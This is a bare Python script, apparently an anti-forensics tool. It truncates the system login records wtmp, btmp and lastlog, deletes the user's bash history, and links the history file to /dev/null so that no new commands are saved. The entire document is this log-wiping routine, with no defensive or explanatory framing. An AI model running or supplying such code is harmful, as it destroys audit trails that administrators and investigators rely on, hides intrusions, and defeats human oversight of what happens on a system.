import os

FILES = ["/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"]
for f in FILES:
    open(f, "w").close()
hist = os.path.expanduser("~/.bash_history")
if os.path.exists(hist):
    os.unlink(hist)
os.symlink("/dev/null", hist)
